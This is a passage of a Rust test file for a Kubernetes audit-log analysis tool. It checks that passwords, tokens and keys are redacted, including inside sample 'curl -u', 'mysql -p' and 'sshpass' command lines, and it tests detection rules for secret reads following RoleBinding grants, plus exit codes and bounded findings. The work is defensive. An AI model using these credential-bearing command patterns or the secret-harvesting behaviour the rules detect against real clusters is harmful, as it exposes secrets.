        for m in &markers {
            assert!(
                !r.stdout_str().contains(m.as_str()) && !r.stderr.contains(m.as_str()),
                "{args:?} printed {m}:\n{}{}",
                r.stdout_str(),
                r.stderr
            );
        }
    }
    // the raw lines are still JSON, and the markers were all there to be printed
    let raw = go(&["events", "-o", "raw", &f]).expect_code(0);
    for line in raw.stdout_str().lines() {
        serde_json::from_str::<Value>(line).unwrap_or_else(|e| panic!("{e}: {line}"));
    }
    let shown = go(&["events", "-o", "raw", "--show-secrets", &f]).expect_code(0);
    assert_eq!(shown.stdout, secrets_log().into_bytes(), "as read");
    let shown = shown.stdout_str();
    let hidden: Vec<&String> = markers
        .iter()
        .filter(|m| !shown.contains(m.as_str()))
        .collect();
    assert!(hidden.is_empty(), "--show-secrets hides {hidden:?}");
    // history prints these bodies (so it had them to hide); not lists, subresources, a body
    // that is a string, or one it cannot read
    let mut history = String::new();
    for object in [
        "secret/s1",
        "secret/s2",
        "cm/cm1",
        "cm/cm2",
        "cm/cm3",
        "deploy/web",
        "deploy/tools",
        "events/web.1",
        "widgets.example.com/w1",
    ] {
        let r = go(&[
            "history",
            "--show-secrets",
            "-o",
            "json",
            "-n",
            "build",
            object,
            &f,
        ]);
        history += r.expect_code(0).stdout_str();
    }
    let printed: Vec<u32> = (1..=LEAKS)
        .filter(|n| history.contains(&leak(*n)))
        .collect();
    assert_eq!(
        printed,
        [
            1, 2, 6, 7, 8, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 27, 29, 30, 31, 32,
            33, 34, 35, 36, 37, 38, 39, 40, 41, 42, 43, 44, 45, 46, 47
        ]
    );
    assert!(history.contains(SENTRY_KEY));
    // what stays: the keys and the story around each value
    let text = raw.stdout_str();
    for kept in [
        "\"password\":\"<redacted 8 bytes>\"",
        "db.password=<redacted 8 bytes>",
        "postgres://app:<redacted 8 bytes>@db:5432/x",
        "Bearer <redacted 8 bytes>",
        "--token=<redacted 8 bytes>",
        "\"--password\",\"<redacted 8 bytes>\"",
        "-----BEGIN EC PRIVATE KEY-----<redacted 10 bytes>-----END EC PRIVATE KEY-----",
        "\"requestObject\":\"<redacted 623 bytes>\"",
        "login failed with password=<redacted 8 bytes>",
        // the review's classes: only the credential goes
        "AccountName=acct;AccountKey=<redacted 8 bytes>;EndpointSuffix=core.windows.net",
        "?sv=2022-11-02&sp=r&sig=<redacted 8 bytes>",
        "smtp.user=ci\\npass=<redacted 8 bytes>\\ndb_pass=<redacted 8 bytes>",
        "<username>ci</username><password><redacted 8 bytes></password>",
        "curl -u alice:<redacted 8 bytes> https://x\\nmysql -uroot -p<redacted 8 bytes> app",
        "sshpass -p <redacted 8 bytes> ssh -p 2222 ops@h",
        "machine h login alice password <redacted 8 bytes>",
        "db:5432:app:alice:<redacted 8 bytes>",
        "https://<redacted 32 bytes>@o1.ingest.sentry.io/1",
        "https://hooks.slack.com/services/T0ABC/B0DEF/<redacted 16 bytes>",
        "\"command\":[\"mysql\",\"-uroot\",\"<redacted 10 bytes>\",\"app\"]",
        "\"args\":[\"-p\",\"8080\",\"-u\",\"1000:1000\"]",
    ] {
        assert!(text.contains(kept), "{kept} in\n{text}");
    }
}

/// A rule of one's own that learns a body value (a baseline on `request.data.url`, or on an
/// annotation) shows it in its finding: redacted, unless --show-secrets.
#[test]
fn a_baseline_on_a_body_value_shows_it_redacted() {
    let dir = tmp();
    let rules = put(
        dir.path(),
        "rules.yaml",
        "rules:
- id: X001
  name: New database URL
  severity: medium
  description: A user wrote a database URL it had not written before.
  false_positives: Migrations.
  match: {resource: configmaps, verb: create}
  baseline: {by: [user], field: request.data.url, after: 30m, min_requests: 50, max_new: 3}
- id: X002
  name: New note
  severity: medium
  description: A user wrote a note it had not written before.
  false_positives: Notes change.
  match: {resource: configmaps, verb: create}
  baseline: {by: [user], field: request.metadata.annotations.note, after: 30m, min_requests: 50, max_new: 3}
",
    );
    let cm = |i: u64, pass: &str| {
        event_with(i, |v| {
            v["level"] = json!("Request");
            v["verb"] = json!("create");
            v["responseStatus"] = json!({"metadata": {}, "code": 201});
            v["requestObject"] = json!({"kind": "ConfigMap", "metadata": {"name": "app",
                "annotations": {"note": format!("Bearer {pass}")}},
                "data": {"url": format!("postgres://app:{pass}@db/x")}});
        })
    };
    // 60 creates in the first minute with one password, then one 40 minutes later with another
    let mut log: String = (0..60)
        .map(|i| cm(i * 1_000_000, "OLDPASS11") + "\n")
        .collect();
    log += &(cm(2400 * 1_000_000, "NEWPASS22") + "\n");
    let f = put(dir.path(), "baseline.log", log);
    let args = [
        "detect",
        "--no-builtin",
        "--rules-file",
        &rules,
        "-o",
        "json",
        &f,
    ];
    let r = go(&args).expect_code(0);
    let out = r.stdout_str();
    let d: Value = serde_json::from_str(out).unwrap();
    let details: Vec<&str> = d["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["detail"].as_str().unwrap())
        .collect();
    assert_eq!(details.len(), 2, "{out}");
    for pass in ["OLDPASS11", "NEWPASS22"] {
        assert!(!out.contains(pass), "{pass} in {out}");
    }
    // under `data` (a Secret's, for all the finding knows): hidden whole; elsewhere, the
    // credential-shaped part only
    assert!(
        details
            .iter()
            .any(|d| d.starts_with("new body value <redacted 29 bytes>, ")),
        "{details:?}"
    );
    assert!(
        details
            .iter()
            .any(|d| d.starts_with("new body value Bearer <redacted 9 bytes>, ")),
        "{details:?}"
    );
    let mut shown = args.to_vec();
    shown.insert(1, "--show-secrets");
    let r = go(&shown).expect_code(0);
    for pass in ["OLDPASS11", "NEWPASS22"] {
        assert!(r.stdout_str().contains(pass), "--show-secrets hides {pass}");
    }
}

// ---------------------------------------------------------------- an alert beside errors

/// A log with a high finding (KA041: an admission webhook deleted by a user), checked first.
const HIGH: &str = "testdata/edge/detect/KA041-webhook-deleted.log";

/// A folder with the log of a high finding, a rotated file that is not gzip past its magic (a
/// copy cut short) and a file with one malformed line.
fn alarm_dir() -> tempfile::TempDir {
    let dir = tmp();
    let high = fs::read(crate::util::repo_path(HIGH)).unwrap();
    put(dir.path(), "audit.log", high);
    put(dir.path(), "audit.log.1.gz", b"\x1f\x8b\x08\x00garbage");
    put(dir.path(), "audit.log.2", events(0..3) + "not json\n");
    dir
}

/// Issue 16 point 10: `detect --fail-on high` exited 2, not 3, when any input failed, though it
/// printed the high findings, so `[ $? -eq 3 ] && page-oncall` never paged. 3 outranks 2:
/// findings at or above --fail-on exit 3 whatever failed in the inputs (an unreadable file,
/// malformed lines with --strict); the errors are still on stderr and in the JSON's `errors`.
/// Without the alert, the errors exit 2 as before.
#[test]
fn an_alert_outranks_unreadable_inputs_and_strict_errors() {
    let r = go(&["detect", "-o", "json", HIGH]).expect_code(0);
    let clean: Value = serde_json::from_slice(&r.stdout).unwrap();
    assert!(
        clean["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["severity"] == "high"),
        "{HIGH} has no high finding: {clean}"
    );
    assert_eq!(clean["errors"], json!([]));
    let dir = alarm_dir();
    let d = dir.path().to_str().unwrap();
    let unreadable = format!("{d}/audit.log.1.gz: ");
    let strict = "1 malformed line(s) and --strict was given";
    for (extra, code) in [
        // an alert: 3, whatever failed
        (&["--fail-on", "high"][..], 3),
        (&["--fail-on", "high", "--strict"][..], 3),
        (&["--fail-on", "low", "--strict", "-j", "1"][..], 3),
        // no alert: the errors decide
        (&[][..], 2),
        (&["--strict"][..], 2),
        (&["--fail-on", "critical", "--strict"][..], 2),
    ] {
        let strict_given = extra.contains(&"--strict");
        for format in ["table", "ndjson", "csv", "json"] {
            let mut args = vec!["detect", "-o", format];
            args.extend(extra);
            args.push(d);
            let r = go(&args).expect_code(code);
            // the errors are on stderr
            assert!(
                r.stderr.contains(&format!("kaudit: error: {unreadable}")),
                "{args:?}: {}",
                r.stderr
            );
            assert_eq!(
                r.stderr.contains(&format!("kaudit: error: {strict}")),
                strict_given,
                "{args:?}: {}",
                r.stderr
            );
            // the findings are printed all the same
            match format {
                "table" => assert!(r.stdout_str().contains("HIGH ("), "{args:?}"),
                "json" => {
                    let doc: Value = serde_json::from_slice(&r.stdout).unwrap();
                    assert_eq!(doc["findings"], clean["findings"], "{args:?}");
                    // and the errors are in the document
                    let errors = doc["errors"].as_array().unwrap();
                    assert!(
                        errors[0].as_str().unwrap().starts_with(&unreadable),
                        "{args:?}: {errors:?}"
                    );
                    if strict_given {
                        assert_eq!(errors[1], strict, "{args:?}: {errors:?}");
                    }
                    assert_eq!(errors.len(), 1 + usize::from(strict_given), "{errors:?}");
                }
                _ => assert!(r.stdout_str().contains("KA041"), "{args:?}"),
            }
        }
    }
}

/// The same rule for `policy check --fail-on-lint`: a lint exits 3 even when a log
/// could not be read (2 without --fail-on-lint); a policy the API server would refuse exits 2
/// (no lints are run on it).
#[test]
fn a_lint_alert_outranks_an_unreadable_logs_input() {
    let policy = "testdata/logrotate/s6-policy.yaml";
    go(&["policy", "check", "--fail-on-lint", policy]).expect_code(3);
    let dir = alarm_dir();
    let d = dir.path().to_str().unwrap();
    for (extra, code) in [
        (&["--fail-on-lint"][..], 3),
        (&["--fail-on-lint", "--strict", "-o", "json"][..], 3),
        (&[][..], 2),
        (&["--strict"][..], 2),
    ] {
        let mut args = vec!["policy", "check"];
        args.extend(extra);
        args.extend([policy, d]);
        let r = go(&args).expect_code(code);
        assert!(
            r.stderr
                .contains(&format!("kaudit: error: {d}/audit.log.1.gz: ")),
            "{args:?}: {}",
            r.stderr
        );
        assert!(!r.stdout.is_empty(), "{args:?}: the report is printed");
    }
    let broken = "testdata/edge/policy/broken.yaml";
    go(&["policy", "check", "--fail-on-lint", broken, d]).expect_code(2);
}

// ---------------------------------------------------------------- output that cannot be written

/// Ways standard output cannot be written.
#[derive(Debug, Clone, Copy, PartialEq)]
enum BadStdout {
    /// `> /dev/full`: every write fails with ENOSPC, as on a full disk.
    Full,
    /// `>&-`: descriptor 1 closed. (The Rust runtime puts /dev/null there before main, so
    /// writes succeeded and the output was lost.)
    Closed,
}

/// Run kaudit with its standard output broken in way `how`.
#[cfg(target_os = "linux")]
fn go_bad_stdout(args: &[&str], how: BadStdout) -> Run {
    use std::os::unix::process::CommandExt;
    let mut cmd = kaudit_std(args);
    cmd.stdin(std::process::Stdio::null());
    match how {
        BadStdout::Full => {
            cmd.stdout(OpenOptions::new().write(true).open("/dev/full").unwrap());
        }
        BadStdout::Closed => {
            // SAFETY: close(2) is async-signal-safe; the child closes its own descriptor 1
            // (after the stdio set-up, before exec).
            unsafe {
                cmd.pre_exec(|| {
                    if libc::close(1) == 0 {
                        Ok(())
                    } else {
                        Err(std::io::Error::last_os_error())
                    }
                });
            }
        }
    }
    wait_output(cmd.spawn().unwrap(), HANG)
}

/// Issue 16 point 11: `--help` and `--version` to /dev/full exited 0 (clap's `print` ignores
/// write errors), and a closed stdout (`>&-`) exited 0 with the output lost. Every command,
/// whether it writes as it goes (events on the whole s5 set), prints only at the end (summary,
/// the group-by commands, detect) or prints less than its buffer (the error then comes from the
/// last flush), exits 2 with a message naming standard output. A closed pipe (`| head`) stays
/// a quiet success (tests/events.rs, tests/cli.rs); an alert stays 3 (see above).
#[cfg(target_os = "linux")]
#[test]
fn output_that_cannot_be_written_exits_2_with_a_message() {
    let small = "testdata/s5/audit.log";
    let commands: &[&[&str]] = &[
        &["--help"],
        &["--version"],
        &["-V"],
        &["help", "summary"],
        &["summary", "--help"],
        &["policy", "check", "--help"],
        &["summary", small],
        &["summary", "-o", "json", small],
        &["events", small],
        &["events", "-o", "ndjson", "testdata/s5/"],
        &["events", "-o", "csv", "--sort", "received", small],
        &["who", small],
        &["what", "-o", "csv", small],
        &["where", small],
        &["when", small],
        &["top", "--by", "user", "-o", "json", small],
        &["latency", small],
        &[
            "history",
            "cm/feature-toggles",
            "-n",
            "staging",
            "testdata/s5/",
        ],
        &["timeline", "-u", "eve", small],
        &["detect", small],
        &["detect", "-o", "json", small],
        &["detect", "--list"],
        &["detect", "--check-rules", "tests/detect/custom.yaml"],
        &["policy", "check", "testdata/logrotate/s6-policy.yaml"],
        &[
            "policy",
            "simulate",
            "testdata/logrotate/s6-policy.yaml",
            small,
        ],
        &["completions", "bash"],
        &["man"],
    ];
    for args in commands {
        // what each prints when it can
        let ok = crate::util::run(args).expect_code(0);
        assert!(!ok.stdout.is_empty(), "{args:?} prints nothing");
        for how in [BadStdout::Full, BadStdout::Closed] {
            let r = go_bad_stdout(args, how);
            assert_eq!(r.code, 2, "{args:?} {how:?}: {}", r.stderr);
            let why = match how {
                BadStdout::Full => "No space left on device",
                BadStdout::Closed => "it is closed",
            };
            assert_eq!(
                r.stderr
                    .matches(&format!(
                        "kaudit: error: cannot write to standard output: {why}"
                    ))
                    .count(),
                1,
                "{args:?} {how:?}: {}",
                r.stderr
            );
        }
    }
}

/// With a broken stdout, an alert still exits 3 (the error is on stderr), and a command with
/// nothing to print loses nothing: it exits as it would (1: nothing matched), as `true >&-`
/// succeeds.
#[cfg(target_os = "linux")]
#[test]
fn output_that_cannot_be_written_keeps_an_alert_and_an_empty_answer() {
    for how in [BadStdout::Full, BadStdout::Closed] {
        for args in [
            &["detect", "--fail-on", "high", HIGH][..],
            &["detect", "--fail-on", "high", "-o", "json", HIGH][..],
            &[
                "policy",
                "check",
                "--fail-on-lint",
                "testdata/logrotate/s6-policy.yaml",
            ][..],
        ] {
            let r = go_bad_stdout(args, how);
            assert_eq!(r.code, 3, "{args:?} {how:?}: {}", r.stderr);
            assert_eq!(
                r.stderr
                    .matches("kaudit: error: cannot write to standard output: ")
                    .count(),
                1,
                "{args:?} {how:?}: {}",
                r.stderr
            );
        }
        let args = [
            "events",
            "-o",
            "ndjson",
            "--code",
            "5xx",
            "testdata/edge/failed-auth.log",
        ];
        let r = go_bad_stdout(&args, how);
        assert_eq!(r.code, 1, "{how:?}: {}", r.stderr);
        assert_eq!(r.stderr, "", "{how:?}");
    }
}

// ---------------------------------------------------------------- rule state bounded by what it reports

/// A `ResponseComplete` (and, with `received`, a `RequestReceived` before it) of one request,
/// received at `t` µs after 2026-11-21T14:00:00Z.
#[allow(clippy::too_many_arguments)]
fn request_lines(
    id: &str,
    t: u64,
    user: &str,
    agent: &str,
    verb: &str,
    resource: &str,
    name: &str,
    body: Option<Value>,
) -> (String, String) {
    let ts = |t: u64| {
        let s = t / 1_000_000;
        format!(
            "2026-11-21T{:02}:{:02}:{:02}.{:06}Z",
            14 + s / 3600,
            (s / 60) % 60,
            s % 60,
            t % 1_000_000
        )
    };
    let mut v = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
        "auditID": id, "stage": "RequestReceived",
        "requestURI": format!("/api/v1/namespaces/default/{resource}/{name}"), "verb": verb,
        "user": {"username": user, "groups": ["system:authenticated"]},
        "sourceIPs": ["10.0.0.1"], "userAgent": agent,
        "objectRef": {"resource": resource, "namespace": "default", "name": name, "apiVersion": "v1"},
        "requestReceivedTimestamp": ts(t), "stageTimestamp": ts(t),
    });
    if resource.ends_with("rolebindings") {
        v["objectRef"]["apiGroup"] = json!("rbac.authorization.k8s.io");
    }
    let received = v.to_string();
    v["stage"] = json!("ResponseComplete");
    v["stageTimestamp"] = json!(ts(t + 1500));
    v["responseStatus"] = json!({"metadata": {}, "code": if verb == "create" { 201 } else { 200 }});
    if let Some(b) = body {
        v["level"] = json!("Request");
        v["requestObject"] = b;
    }
    (received, v.to_string())
}

/// `grants` RoleBindings to eve, `reads` reads of a secret by eve; `interleaved`: each grant
/// followed by one read, else the grants first. 100 ms apart: all within KA022's ten minutes.
fn grants_then_reads(grants: u64, reads: u64, interleaved: bool) -> String {
    let grant = |i: u64| {
        let body = json!({
            "kind": "RoleBinding",
            "metadata": {"name": format!("rb{i}"), "namespace": "default"},
            "roleRef": {"kind": "ClusterRole", "name": "view", "apiGroup": "rbac.authorization.k8s.io"},
            "subjects": [{"kind": "User", "name": "eve"}],
        });
        let t = i * 100_000;
        request_lines(
            &format!("g{i:05}"),
            t,
            "admin",
            "kubectl/v1.30.0",
            "create",
            "rolebindings",
            &format!("rb{i}"),
            Some(body),
        )
        .1 + "\n"
    };
    let read = |i: u64, t: u64| {
        request_lines(
            &format!("r{i:05}"),
            t,
            "eve",
            "kubectl/v1.30.0",
            "get",
            "secrets",
            &format!("s{i}"),
            None,
        )
        .1 + "\n"
    };
    let mut log = String::new();
    if interleaved {
        for i in 0..grants.max(reads) {
            if i < grants {
                log += &grant(i);
            }
            if i < reads {
                log += &read(i, i * 100_000 + 1);
            }
        }
    } else {
        (0..grants).for_each(|i| log += &grant(i));
        (0..reads).for_each(|i| log += &read(i, (grants + i) * 100_000));
    }
    log
}

/// Issue 16: a plain rule's findings were kept without bound (2 M users each reading a secret:
/// 2 M KA031 findings, 10.6 GB). Now a plain rule keeps its first findings by key within
/// `--max-rule-hits` (each finding counts as 50 requests more than it lists), counts the
/// matching requests of the others, and says so in the table, the JSON `leftOut` and notes;
/// which findings are kept does not depend on the thread count, chunk size or input path.
#[test]
fn findings_of_a_plain_rule_are_bounded_and_what_is_left_out_is_counted() {
    // 400 users each read 2 secrets, in a scrambled user order (KA031 groups by actor)
    let mut log = String::new();
    for i in 0..800u64 {
        let u = (i * 37) % 400;
        log += &(request_lines(
            &format!("a{i:04}"),
            i * 1000,
            &format!("user{u:03}"),
            "kubectl/v1.30.0",
            "get",
            "secrets",
            &format!("s{i}"),
            None,
        )
        .1 + "\n");
    }
    let dir = tmp();
    let f = put(dir.path(), "readers.log", &log);
    let args = |extra: &[&str]| -> Vec<String> {
        let mut a = vec!["detect", "--rules", "KA031", "--max-rule-hits", "1040"];
        a.extend(extra);
        a.push(&f);
        a.into_iter().map(String::from).collect()
    };
    let run = |extra: &[&str]| {
        let a = args(extra);
        let a: Vec<&str> = a.iter().map(|s| &**s).collect();
        go(&a).expect_code(0)
    };
    let json = run(&["-o", "json", "-j", "1"]);
    let d: Value = serde_json::from_slice(&json.stdout).unwrap();
    let found = findings_of(&d, "KA031");
    // 52 + 52 per finding of 2 requests: 20 findings fit in 1,040
    assert_eq!(found.len(), 20, "{}", json.stderr);
    let actors: Vec<&str> = found
        .iter()
        .map(|x| x["actors"][0].as_str().unwrap())
        .collect();
    let want: Vec<String> = (0..20).map(|u| format!("user{u:03}")).collect();
    let mut sorted = actors.clone();
    sorted.sort_unstable();
    assert_eq!(sorted, want);
    assert!(
        found
            .iter()
            .all(|x| x["count"] == 2 && x["auditIDsLeftOut"] == 0)
    );
    assert_eq!(d["leftOut"], json!([{"rule": "KA031", "requests": 760}]));
    assert!(
        d["notes"][0].as_str().unwrap().starts_with(
            "KA031: kept its first 20 finding(s) by actor (listing 40 request(s); each finding counts as 50 requests more than it lists, against --max-rule-hits 1,040) and left out the other 760 matching request(s)"
        ),
        "{}",
        d["notes"]
    );
    assert!(
        json.stderr.contains("KA031: kept its first 20 finding(s)"),
        "{}",
        json.stderr
    );
    let table = run(&[]);
    assert!(
        table.stdout_str().contains(
            "Matching requests left out past --max-rule-hits 1,040 (see the notes; they may hold more findings): KA031 760."
        ),
        "{}",
        table.stdout_str()
    );
    // the same findings, bytes for bytes, whatever the threads and chunks
    for extra in [
        &["-o", "json", "-j", "7"][..],
        &["-o", "json", "--chunk-size", "2000", "-j", "3"][..],
        &["-o", "json", "--chunk-size", "7000", "-j", "2"][..],
        &["-o", "json", "--no-mmap"][..],
    ] {
        let out = run(extra);
        assert!(
            out.stdout == json.stdout,
            "{extra:?}:\n{}",
            first_difference(&json.stdout, &out.stdout)
        );
    }
}

fn findings_of<'a>(d: &'a Value, rule: &str) -> Vec<&'a Value> {
    d["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|x| x["rule"] == rule)
        .collect()
}

/// Issue 16, point 2: RoleBindings to eve, each followed by eve's reads. Every grant's KA022
/// finding holds all of eve's later reads: N grants and N reads were N findings of up to N
/// requests, all copied (7.9 GB at N = 10,000). Now a finding counts every request, lists the
/// first `--max-evidence` (default 1,000) and says how many it left out (in the JSON and the
/// table), and a threshold or sequence rule past `--max-rule-hits` says what it did not look
/// at (stderr and JSON notes).
#[test]
fn rule_state_bounded_by_what_it_reports_ka022_grants_then_reads() {
    let dir = tmp();
    // default settings: 3 grants, then 2,500 reads
    let f = put(dir.path(), "few.log", grants_then_reads(3, 2500, false));
    let r = go(&["detect", "-o", "json", &f]).expect_code(0);
    let d: Value = serde_json::from_slice(&r.stdout).unwrap();
    let seq = findings_of(&d, "KA022");
    assert_eq!(seq.len(), 3);
    for x in seq {
        let ids = x["auditIDs"].as_array().unwrap();
        // the grant counts and is listed first: 1,000 listed in all
        assert_eq!(x["count"], 2501);
        assert_eq!(ids.len(), 1000, "the grant, then the first 999 reads");
        assert_eq!((&ids[1], &ids[999]), (&json!("r00000"), &json!("r00998")));
        assert_eq!(x["auditIDsLeftOut"], 1501);
        assert_eq!(
            x["targets"].as_array().unwrap().len(),
            999,
            "of the listed reads"
        );
    }
    // eve's 2,500 reads in four minutes: one burst, its count whole, its list cut
    let burst = findings_of(&d, "KA033");
    assert_eq!(burst.len(), 1);
    assert_eq!(
        (&burst[0]["count"], &burst[0]["auditIDsLeftOut"]),
        (&json!(2500), &json!(1500))
    );
    let r = go(&["detect", &f]).expect_code(0);
    assert!(
        r.stdout_str().contains("-o json lists the first 1,000 requests of each finding: 6 finding(s) left out 9,003 more"),
        "{}",
        r.stdout_str()
    );

    // the hostile shape: 3,000 grants, each followed by a read; what is kept and printed
    // grows with N x --max-evidence, not N x N
    let n = 3000u64;
    let f = put(dir.path(), "many.log", grants_then_reads(n, n, true));
    let r = go(&["detect", "-o", "json", "--max-evidence", "20", &f]).expect_code(0);
    let d: Value = serde_json::from_slice(&r.stdout).unwrap();
    let seq = findings_of(&d, "KA022");
    assert_eq!(seq.len() as u64, n, "one finding per grant");
    let mut listed = 0;
    for x in &seq {
        let i: u64 = x["auditIDs"][0].as_str().unwrap()[1..].parse().unwrap();
        let reads = n - i; // every read from its own on
        let ids = x["auditIDs"].as_array().unwrap();
        assert_eq!(x["count"], 1 + reads, "{}", x["auditIDs"][0]);
        assert_eq!(ids.len() as u64, 1 + reads.min(19));
        assert_eq!(ids[1], format!("r{i:05}"), "the earliest reads are listed");
        assert_eq!(x["auditIDsLeftOut"], reads - reads.min(19));
        listed += ids.len() as u64;
    }
    assert_eq!(listed, n + (0..n).map(|i| (n - i).min(19)).sum::<u64>());

    // the rule bounds: each says what it left out
    let r = go(&[
        "detect",
        "--max-evidence",
        "5",
        "--max-rule-hits",
        "1000",
        &f,
    ])
    .expect_code(0);
    assert!(
        r.stdout_str()
            .contains("-o json lists the first 5 requests of each finding:"),
        "{}",
        r.stdout_str()
    );
    assert!(
        r.stderr.contains("KA033: windowed its first 1,000 matching requests (by time) and left out the other 2,000")
            && r.stderr.contains("KA022: joined its first 2,000 matching requests (by time) and left out the other 4,000"),
        "{}",
        r.stderr
    );
    let r = go(&[
        "detect",
        "-o",
        "json",
        "--max-evidence",
        "5",
        "--max-rule-hits",
        "1000",
        &f,
    ]);
    let d: Value = serde_json::from_slice(&r.stdout).unwrap();
    let notes = d["notes"].to_string();
    assert!(notes.contains("KA033: windowed its first 1,000"), "{notes}");
    // every finding lists at most --max-evidence requests (a sequence's first among them) and
    // counts the others
    for x in d["findings"].as_array().unwrap() {
        let ids = x["auditIDs"].as_array().unwrap().len() as u64;
        assert!(ids <= 5, "{x}");
        assert_eq!(
            ids + x["auditIDsLeftOut"].as_u64().unwrap(),
            x["count"].as_u64().unwrap(),
            "{x}"
        );
    }
}

// ---------------------------------------------------------------- same answer for any thread count, chunk size and input path

/// A log whose answers used to depend on how it was read: a service account's new client
/// (KA052) touching 60 objects (its target list was cut to the first 20 that reached the
/// merge, in whatever order the chunks came), requests received in the same microsecond
/// (timeline kept them in the order they reached it), and stages of one request far apart
/// in the file (a request that crosses a chunk reaches the sink later).
fn shuffled_stages_log() -> String {
    let mut lines: Vec<(u64, String)> = Vec::new();
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut rnd = |n: u64| {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x % n
    };
    let users = [
        "alice",
        "bob",
        "carol",
        "eve",
        "system:serviceaccount:ci:bot",
    ];
    let verbs = ["get", "list", "delete", "patch"];
    let mut k = 0u64;
    let mut add = |lines: &mut Vec<(u64, String)>,
                   rr: String,
                   rc: String,
                   rnd: &mut dyn FnMut(u64) -> u64| {
        lines.push((k * 10, rr));
        lines.push((k * 10 + 1 + rnd(4000), rc));
        k += 1;
    };
    // the service account's usual client in its first half hour, then kubectl, late
    for i in 0..80u64 {
        let (a, b) = request_lines(
            &format!("bot-{i:03}"),
            i * 20_000_000,
            "system:serviceaccount:ci:bot",
            "controller/1.0",
            "get",
            "configmaps",
            "settings",
            None,
        );
        add(&mut lines, a, b, &mut rnd);
    }
    for i in 0..60u64 {
        let (a, b) = request_lines(
            &format!("new-{i:03}"),
            2_400_000_000 + i * 1_000_000,
            "system:serviceaccount:ci:bot",
            "kubectl/v1.30.0",
            "get",
            "secrets",
            &format!("cm-{:02}", 59 - i),
            None,
        );
        add(&mut lines, a, b, &mut rnd);
    }
    // grants to eve read from their bodies (KA022), each followed by reads
    for i in 0..20u64 {
        let body = json!({
            "kind": "RoleBinding",
            "roleRef": {"kind": "ClusterRole", "name": "view", "apiGroup": "rbac.authorization.k8s.io"},
            "subjects": [{"kind": "User", "name": "eve"}, {"kind": "User", "name": format!("u{}", rnd(3))}],
        });
        let (a, b) = request_lines(
            &format!("grant-{i:02}"),
            2_450_000_000 + i * 500_000,
            "admin",
            "kubectl/v1.30.0",
            "create",
            "rolebindings",
            &format!("rb{i}"),
            Some(body),
        );
        add(&mut lines, a, b, &mut rnd);
    }
    // 1,500 requests received in 5 distinct microseconds
    for i in 0..1500u64 {
        let t = 2_500_000_000 + (i % 5);
        let (a, b) = request_lines(
            &format!("tie-{:04}-{i}", rnd(10_000)),
            t,
            users[rnd(5) as usize],
            "kubectl/v1.30.0",
            verbs[rnd(4) as usize],
            "configmaps",
            &format!("obj{}", rnd(7)),
            None,
        );
        add(&mut lines, a, b, &mut rnd);
    }
    lines.sort_by_key(|(at, _)| *at);
    lines.into_iter().map(|(_, l)| l + "\n").collect()
}

/// Issue 16, point 6: detect, timeline, latency, history, who, top and when print the same
/// bytes whatever the thread count, the chunk size and the input path (file, stdin, gzip,
/// --no-mmap).
#[test]
fn same_answer_for_any_thread_count_chunk_size_and_input_path() {
    let log = shuffled_stages_log();
    for cmd in [
        &["detect", "-o", "json"][..],
        &["detect", "-o", "wide"][..],
        &["timeline", "-o", "json"][..],
        &["timeline", "--context", "1s", "-o", "json"][..],
        &["timeline", "--collapse", "none"][..],
        &["latency", "-o", "json"][..],
        &["history", "configmaps/obj3", "-n", "default", "-o", "json"][..],
        &["who", "-o", "json"][..],
        &["top", "--by", "verb", "-o", "json"][..],
        &["when", "-o", "json"][..],
    ] {
        same_answer_every_way(cmd, &log);
    }
}

/// Issue 18, point 5: a query the prefilter serves reads a mapped file's chunks in place while
/// the prefilter skips most lines, and with `pread` once it does not (`scan::mapped`): the same
/// bytes either way, and whatever the thread count, the chunk size and the input path. The
/// log's first requests are gets of configmaps, then of secrets, then a mix of verbs: with small
/// chunks, `-v delete,patch` is read in place at first, then with `pread`; `who -r secrets`
/// in place, with `pread`, then in place again.
#[test]
fn same_answer_read_in_place_or_not() {
    let log = shuffled_stages_log();
    for cmd in [
        &["who", "-v", "delete,patch", "-o", "json"][..],
        &["events", "-v", "delete,patch", "-o", "raw"][..],
        &["events", "-u", "carol", "-o", "raw"][..],
        &["events", "--code", "201", "-o", "raw"][..],
        &["who", "-r", "secrets", "-o", "json"][..],
        &["top", "--by", "user", "-v", "delete", "-o", "json"][..],
    ] {
        same_answer_every_way(cmd, &log);
    }
}

/// `cmd` on `log` prints the same bytes with -j 1 as with other thread counts and chunk sizes,
/// --no-mmap, gzip, and on stdin.
#[track_caller]
fn same_answer_every_way(cmd: &[&str], log: &str) {
    let dir = tmp();
    let f = put(dir.path(), "shuffled.log", log);
    let gzf = put(dir.path(), "shuffled.log.gz", gz(log.as_bytes()));
    let run = |extra: &[&str], path: &str| -> Vec<u8> {
        let mut args: Vec<&str> = cmd.to_vec();
        args.extend(extra);
        args.push(path);
        let r = go(&args);
        assert!(r.code == 0, "{args:?}: exit {}\n{}", r.code, r.stderr);
        r.stdout
    };
    let want = run(&["-j", "1"], &f);
    assert!(want.len() > 500, "{cmd:?} printed {} bytes", want.len());
    let mut got = vec![
        ("-j 7", run(&["-j", "7"], &f)),
        ("--no-mmap", run(&["--no-mmap"], &f)),
        ("gzip file", run(&[], &gzf)),
    ];
    for size in ["2000", "7000", "65536"] {
        got.push((size, run(&["--chunk-size", size, "-j", "3"], &f)));
    }
    let stdin = |extra: &[&str], bytes: Vec<u8>| -> Vec<u8> {
        let mut args: Vec<&str> = cmd.to_vec();
        args.extend(extra);
        args.push("-");
        let r = run_stdin(&args, bytes);
        assert!(r.code == 0, "{args:?}: exit {}\n{}", r.code, r.stderr);
        r.stdout
    };
    got.push(("stdin", stdin(&[], log.as_bytes().to_vec())));
    got.push((
        "gzip stdin",
        stdin(&["--chunk-size", "3000"], gz(log.as_bytes())),
    ));
    for (how, out) in got {
        assert!(
            out == want,
            "{cmd:?} with {how} differs from -j 1:\n{}",
            first_difference(&want, &out)
        );
    }
}

/// Where two outputs part, for the failure message.
fn first_difference(a: &[u8], b: &[u8]) -> String {
    let (a, b) = (String::from_utf8_lossy(a), String::from_utf8_lossy(b));
    match a.lines().zip(b.lines()).position(|(x, y)| x != y) {
        Some(i) => format!(
            "line {}:\n  - {}\n  + {}",
            i + 1,
            a.lines().nth(i).unwrap_or(""),
